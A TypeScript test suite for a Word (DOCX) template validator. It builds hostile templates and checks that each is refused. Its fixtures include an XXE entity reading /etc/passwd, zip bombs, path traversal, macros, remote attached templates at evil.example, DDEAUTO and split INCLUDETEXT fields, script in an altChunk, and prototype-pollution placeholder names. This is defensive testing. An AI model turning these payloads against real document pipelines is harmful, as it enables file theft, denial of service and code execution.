import { checkWordTemplate } from '@/lib/documents/docx/ask-word-thread'
import { TEMPLATE_FAULTS, type TemplateFaultCode } from '@/lib/domain/document/template-check'
import { templateFault } from '@/lib/labels/zh-CN/word-template'
import {
  inBody,
  related,
  templateOf,
  templateThatExpands,
  templateWith,
  templateWithDoubledPart,
  templateWithUntrueSize,
} from '../../support/word-templates'

// 恶意或者不合用的模板：都以一句中文说明为什么不能用，不打开、不运行、不向外读取，内存有界。

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const MB = 1_048_576
const run = (inside: string) => `<w:p><w:r>${inside}</w:r></w:p>`
const field = (...pieces: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const link = (type: string, target: string, mode = '') =>
  related(`Type="${OFFICE}/${type}" Target="${target}"${mode}`)
const EXTERNAL = ' TargetMode="External"'

type Hostile = readonly [
  name: string,
  make: () => Promise<Uint8Array>,
  code: TemplateFaultCode,
  detail?: string,
]

const HOSTILE: readonly Hostile[] = [
  ['不是压缩包', async () => Buffer.from('PK\x03\x04不是'), 'TEMPLATE_DAMAGED'],
  ['没有正文', () => templateWith({ 'word/document.xml': null }), 'TEMPLATE_NOT_WORD'],
  [
    '正文指向另一个部件',
    () =>
      templateWith({
        'word/other.xml': '<w:document xmlns:w="w"/>',
        '[Content_Types].xml': (text) => text.replace('/word/document.xml', '/word/other.xml'),
      }),
    'TEMPLATE_NOT_WORD',
  ],
  ['同名部件', templateWithDoubledPart, 'TEMPLATE_DAMAGED', 'word/document.xml'],
  [
    '大小写不同的同名部件',
    () => templateWith({ 'word/DOCUMENT.xml': '<w:document/>' }),
    'TEMPLATE_DAMAGED',
  ],
  ['压缩炸弹', () => templateThatExpands(60 * MB), 'TEMPLATE_EXPANDS'],
  ['目录里写小了的压缩炸弹', () => templateWithUntrueSize(60 * MB), 'TEMPLATE_DAMAGED'],
  [
    '部件过多',
    () =>
      templateWith(
        Object.fromEntries(
          Array.from({ length: 400 }, (_, index) => [`customXml/item${index}.xml`, '<a/>']),
        ),
      ),
    'TEMPLATE_EXPANDS',
  ],
  ['越出文件夹的部件', () => templateWith({ '../evil.xml': '<a/>' }), 'TEMPLATE_DAMAGED'],
  [
    '外部实体',
    () =>
      templateWith({
        'word/document.xml': (text) =>
          text
            .replace('?>', '?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
            .replace('案由：', '&x;'),
      }),
    'TEMPLATE_DAMAGED',
  ],
  [
    '层层展开的实体',
    () =>
      templateWith({
        'word/styles.xml': (text) =>
          text.replace('?>', '?><!DOCTYPE w [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>'),
      }),
    'TEMPLATE_DAMAGED',
  ],
  ['宏', () => templateWith({ 'word/vbaProject.bin': Buffer.alloc(9) }), 'TEMPLATE_MACROS'],
  [
    '启用宏的文档类型',
    () =>
      templateWith({
        '[Content_Types].xml': (text) =>
          text.replace(
            'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
            'application/vnd.ms-word.document.macroEnabled.main+xml',
          ),
      }),
    'TEMPLATE_MACROS',
  ],
  [
    '外部图片',
    () => templateWith(link('image', 'https://evil.example/a.png', EXTERNAL)),
    'TEMPLATE_EXTERNAL',
    'https://evil.example/a.png',
  ],
  [
    '没有写明的外部目标',
    () => templateWith(link('image', 'file://evil.example/a.png')),
    'TEMPLATE_EXTERNAL',
  ],
  ['另一台机器上的目标', () => templateWith(link('image', '\\\\evil\\a.png')), 'TEMPLATE_EXTERNAL'],
  [
    '藏在别的属性里的目标方式',
    () =>
      templateWith(link('image', 'a.png', ` x=' TargetMode="Internal"' TargetMode="&#69;xternal"`)),
    'TEMPLATE_EXTERNAL',
  ],
  [
    '附加的远程模板',
    () =>
      templateWith({
        'word/_rels/settings.xml.rels': `<Relationships xmlns="r"><Relationship Id="rId1" Type="${OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm"${EXTERNAL}/></Relationships>`,
      }),
    'TEMPLATE_EXTERNAL',
  ],
  [
    '附加的本地模板',
    () => templateWith(link('attachedTemplate', 'other.dotx')),
    'TEMPLATE_EMBEDDED',
  ],
  [
    '嵌入的其他格式',
    () =>
      templateWith({
        'word/afchunk1.html': '<script>alert(1)</script>',
        ...link('aFChunk', 'afchunk1.html'),
      }),
    'TEMPLATE_EMBEDDED',
    'word/afchunk1.html',
  ],
  ['altChunk', () => templateWith(inBody('<w:altChunk r:id="rId99"/>')), 'TEMPLATE_EMBEDDED'],
  [
    '嵌入的表格',
    () => templateWith({ 'word/embeddings/book.xlsx': Buffer.alloc(9) }),
    'TEMPLATE_EMBEDDED',
  ],
  [
    'OLE 对象',
    () => templateWith(inBody(run('<w:object><o:OLEObject ProgID="Package"/></w:object>'))),
    'TEMPLATE_EMBEDDED',
  ],
  [
    'ActiveX 控件',
    () => templateWith({ 'word/activeX/activeX1.bin': Buffer.alloc(9) }),
    'TEMPLATE_EMBEDDED',
  ],
  ['DDE 域', () => templateWith(inBody(field('DDEAUTO cmd'))), 'TEMPLATE_FIELD', 'DDEAUTO'],
  [
    '分几段写的域',
    () => templateWith(inBody(field('INC', 'LUDETEXT "http://evil.example"'))),
    'TEMPLATE_FIELD',
    'INCLUDETEXT',
  ],
  [
    '由另一个域给出名称的域',
    () =>
      templateWith(
        inBody(
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('REF x').slice(5, -6)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
      ),
    'TEMPLATE_FIELD',
  ],
  [
    '简单域',
    () => templateWith(inBody('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE a "/></w:p>')),
    'TEMPLATE_FIELD',
    'INCLUDEPICTURE',
  ],
  [
    '藏在别的属性里的域',
    () => templateWith(inBody(`<w:p><w:fldSimple w:x=' w:instr="PAGE"' w:instr="LINK a"/></w:p>`)),
    'TEMPLATE_FIELD',
    'LINK',
  ],
  [
    '藏在注释之间的域',
    () =>
      templateWith(inBody(`<w:p w:x="><!--"><w:fldSimple w:instr="DDE a"/></w:p><w:p w:y="-->"/>`)),
    'TEMPLATE_DAMAGED',
  ],
  [
    '重复的域写在页脚',
    () =>
      templateWith({
        'word/footer1.xml': (text) => text.replace('PAGE', 'HYPERLINK "http://evil.example"'),
      }),
    'TEMPLATE_FIELD',
  ],
  [
    '嵌套过深',
    () => templateWith(inBody('<w:p>'.repeat(10_000) + '</w:p>'.repeat(10_000))),
    'TEMPLATE_DAMAGED',
  ],
  ['文字过长', () => templateOf('长'.repeat(600_000)), 'TEMPLATE_TOO_LONG'],
  [
    '十万个占位符',
    () => templateWith(inBody(run(`<w:t>${'{案由}'.repeat(100_000)}</w:t>`))),
    'TEMPLATE_TOO_MANY_TAGS',
  ],
  [
    '不是 UTF-8',
    () => templateWith({ 'word/styles.xml': Buffer.from([0xff, 0xfe, 0x3c, 0]) }),
    'TEMPLATE_DAMAGED',
  ],
]

const CASES = HOSTILE.map(([name, make, code, detail = null]) => ({ name, make, code, detail }))

test.each(CASES)('$name：拒绝', async ({ make, code, detail }) => {
  const check = await checkWordTemplate(await make(), 'agreement')
  expect(check).toEqual({
    is: 'refused',
    fault: { code, detail: detail ?? (check.is === 'refused' ? check.fault.detail : null) },
  })
})

test('每一种拒绝都有中文的说明', () => {
  for (const code of TEMPLATE_FAULTS) expect(templateFault[code]('部分')).toMatch(/。$/)
})

const NAMES_OUT_OF_REACH = [
  ...['constructor', 'constructor.constructor', '__proto__', 'toString', 'process.env', '../案由'],
  ...[
    '案由.length',
    '@案由',
    '^当事人',
    '-w:p 当事人',
    '$案由',
    '=[[ ]]=',
    '案由|upper',
    '1+1',
    '.',
  ],
]
test.each(NAMES_OUT_OF_REACH)('占位符 {%s} 不是本文书声明的名称', async (name) => {
  expect(await checkWordTemplate(await templateOf(`{${name}}`), 'agreement')).toMatchObject({
    is: 'read',
    names: [],
    errors: [{ code: 'UNKNOWN_NAME', area: 'body' }],
  })
})

test('一千层列表：逐一指出，只列前五十处', async () => {
  const lists = Array.from({ length: 1_000 }, () => '{#当事人}')
  const check = await checkWordTemplate(await templateOf(...lists), 'agreement')
  expect(check).toMatchObject({ is: 'read', errorCount: 1_000 })
  expect(check.is === 'read' && check.errors).toHaveLength(50)
})

test('占位符写在脚注和文件属性里：指出位置，不填写', async () => {
  const file = await templateWith({
    'docProps/core.xml': (text) =>
      text.replace('</cp:coreProperties>', '<dc:subject>{@案由}</dc:subject></cp:coreProperties>'),
  })
  expect(await checkWordTemplate(file, 'agreement')).toMatchObject({
    errors: [{ code: 'NOT_HERE', area: 'other', around: '{@案由}' }],
  })
})

test('读四十次炸弹以后，内存没有变大', async () => {
  const [bomb, untrue] = [await templateThatExpands(60 * MB), await templateWithUntrueSize(60 * MB)]
  await checkWordTemplate(bomb, 'agreement')
  const before = process.memoryUsage().rss
  for (let time = 0; time < 20; time += 1)
    for (const file of [bomb, untrue]) await checkWordTemplate(file, 'agreement')
  expect((process.memoryUsage().rss - before) / MB).toBeLessThan(150)
})
